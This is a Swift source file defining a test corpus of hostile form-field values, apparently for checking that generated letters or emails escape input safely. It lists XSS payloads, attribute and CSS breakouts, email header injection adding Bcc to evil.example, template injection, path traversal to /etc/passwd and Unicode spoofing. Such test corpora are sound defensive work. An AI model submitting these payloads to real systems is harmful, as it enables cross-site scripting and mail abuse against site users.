/// A value that somebody may type into a field of a form, hoping that a letter carries it further.
struct HostileValue: Sendable {
    /// What it tries.
    var attempt: String
    var value: String

    init(_ attempt: String, _ value: String) {
        self.attempt = attempt
        self.value = value
    }

    static let all: [HostileValue] = [
        // Out of text.
        .init("an element", "<script>alert(1)</script>"), .init("an element with a handler", "<img src=x onerror=alert(1)>"),
        .init("the end of a script", "</script><script>alert(1)</script>"),
        .init("the end of a style", "</style><script>alert(1)</script>"),
        .init("the end of a title", "</title><img src=x onerror=alert(1)>"),
        .init("the end of a text area", "</textarea><svg onload=alert(1)>"), .init("the end of a comment", "--><b>x</b><!--"),
        .init("the other end of a comment", "--!><b>x</b>"), .init("the end of a conditional comment", "<![endif]--><b>x</b>"),
        .init("a conditional comment", "<!--[if mso]><b>x</b>"), .init("the end of CDATA", "]]><b>x</b>"),
        .init("CDATA", "<![CDATA[<b>x</b>]]>"), .init("an SVG", "<svg/onload=alert(1)>"),
        .init("MathML", "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>"),
        .init("a frame", "<iframe srcdoc='<script>alert(1)</script>'>"), .init("a base", "<base href='//evil.example'>"),
        .init("a redirect", "<meta http-equiv=refresh content='0;url=//evil.example'>"),
        .init("a form", "<form action='//evil.example'><input name=q>"), .init("plain text", "<plaintext>"),
        .init("a tag that does not end", "<img src='"), .init("a slash", "</"), .init("a lone bracket", "<"),
        .init("a tag without spaces", "<a/href=javascript:alert(1)>"),
        .init("another encoding", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        .init("wide brackets", "＜script＞alert(1)＜/script＞"), .init("an overlong bracket", "\u{fffd}\u{fffd}script>"),
        // Out of attributes.
        .init("a double quote", "\" onmouseover=\"alert(1)"), .init("a single quote", "' onmouseover='alert(1)"),
        .init("a grave accent", "` onmouseover=`alert(1)"), .init("both quotes and an element", "'\"><script>alert(1)</script>"),
        .init("a space and an attribute", "x onmouseover=alert(1)"), .init("a tab and an attribute", "x\tstyle=x"),
        .init("a form feed and an attribute", "x\u{c}onclick=alert(1)"), .init("a slash and an attribute", "x/onclick=alert(1)"),
        .init("an entity for a quote", "&quot; onclick=&quot;alert(1)"), .init("a numeric entity", "&#34; onclick=&#x22;x"),
        .init("an entity without its end", "&#34 onclick=x"), .init("a backslash and a quote", "\\\" onclick=\\\"x"),
        // Addresses.
        .init("a script address", "javascript:alert(1)"), .init("in capitals", "JAVASCRIPT:alert(1)"),
        .init("in both cases", "jAvAsCrIpT:alert(1)"), .init("behind spaces", "  \t javascript:alert(1)"),
        .init("with a tab", "java\tscript:alert(1)"), .init("with a line end", "java\nscript:alert(1)"),
        .init("with CR and LF", "java\r\nscript:alert(1)"), .init("behind a control character", "\u{1}javascript:alert(1)"),
        .init("behind NUL", "\u{0}javascript:alert(1)"), .init("with NUL", "java\u{0}script:alert(1)"),
        .init("with entities", "&#106;&#97;vascript:alert(1)"), .init("with long entities", "&#0000106avascript:alert(1)"),
        .init("with an entity for the colon", "javascript&colon;alert(1)"),
        .init("with entities for white space", "java&Tab;script&NewLine;:alert(1)"),
        .init("with percent signs", "%6A%61vascript:alert(1)"), .init("with a percent colon", "javascript%3Aalert(1)"),
        .init("in wide letters", "ｊａｖａｓｃｒｉｐｔ:alert(1)"), .init("with a wide colon", "javascript：alert(1)"),
        .init("with a soft hyphen", "java\u{ad}script:alert(1)"), .init("with a byte order mark", "\u{feff}javascript:alert(1)"),
        .init("a data address", "data:text/html,<script>alert(1)</script>"),
        .init("a data address in Base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        .init("Visual Basic", "vbscript:msgbox(1)"), .init("a live script", "livescript:alert(1)"),
        .init("a view of source", "view-source:javascript:alert(1)"), .init("a file", "file:///etc/passwd"),
        .init("a blob", "blob:https://evil.example/x"), .init("a Java archive", "jar:javascript:alert(1)!/"),
        .init("no scheme", "//evil.example/x"), .init("backslashes", "\\\\evil.example\\x"),
        .init("user and host", "@evil.example/"),
        .init("another port", ":80@evil.example"), .init("a parent folder", "../../../etc/passwd"),
        .init("another query", "&admin=1#x?y=z"), .init("a label of a host", ".evil.example"),
        // Styles.
        .init("another declaration", "red;background:url(//evil.example)"), .init("the end of a rule", "red}body{display:none"),
        .init("an expression", "expression(alert(1))"), .init("a binding", "x;-moz-binding:url(//evil.example)"),
        .init("a behavior", "x;behavior:url(x.htc)"), .init("an escape", "\\65 xpression(alert(1))"),
        .init("a comment in a style", "/**/;color:blue/**/"), .init("an open comment", "/*"),
        .init("the end of one", "*/}p{color:red"),
        .init("an import", "@import '//evil.example/x.css';"), .init("an open string", "'"),
        .init("an address in a style", "url(javascript:alert(1))"),
        .init("importance", "red!important"), .init("an HTML comment in a style", "--><!--"),
        // Headers.
        .init("another header", "x\r\nBcc: everybody@evil.example"), .init("a bare LF", "x\nBcc: everybody@evil.example"),
        .init("a bare CR", "x\rBcc: everybody@evil.example"), .init("a body", "x\r\n\r\n<b>another body</b>"),
        .init("a line separator", "x\u{2028}Bcc: x"), .init("the end of a message", "x\r\n.\r\n"),
        .init("an encoded word", "=?utf-8?q?=0ABcc:_x?="), .init("a boundary", "x\r\n--boundary--\r\n"),
        .init("an escape sequence", "\u{1b}[2J\u{7}"), .init("a comma and an address", "x, everybody@evil.example"),
        // Templates.
        .init("an output", "{{ contact.email }}"), .init("a tag", "{% include 'secret' %}"),
        .init("the end of raw", "{% endraw %}{{ 7 | times: 7 }}"),
        .init("half a tag", "{{"), .init("another language", "${7*7} #{7*7} <%= 7*7 %>"),
        .init("Markdown", "[x](javascript:alert(1)) ![x](x) # x"), .init("an autolink", "<https://evil.example>"),
        // Characters.
        .init("NUL", "a\u{0}b"), .init("right to left", "\u{202e}txt.exe\u{202c}"), .init("isolates", "\u{2066}x\u{2069}"),
        .init("a zero width joiner", "\u{200d}"), .init("a noncharacter", "\u{fffe}\u{10ffff}"),
        .init("combining marks", "e" + String(repeating: "\u{301}", count: 500)), .init("a flag", "🏳️‍🌈👨‍👩‍👧‍👦"),
        .init("C1 controls", "\u{80}\u{9f}\u{85}"), .init("delete", "\u{7f}"), .init("vertical tab", "x\u{b}y"),
        .init("nothing", ""), .init("spaces", "   "), .init("a number", "1e400"),
    ]

    /// Values of about a megabyte.
    static let large: [HostileValue] = [
        .init("brackets", String(repeating: "<", count: 1 << 20)), .init("quotes", String(repeating: "\"'", count: 1 << 19)),
        .init("elements", String(repeating: "<b>", count: 1 << 18)), .init("flowers", String(repeating: "🌺", count: 1 << 18)),
        .init("tags", String(repeating: "{{ x }}", count: 150_000)),
        .init("line ends", String(repeating: "\r\n", count: 1 << 19)),
    ]
}
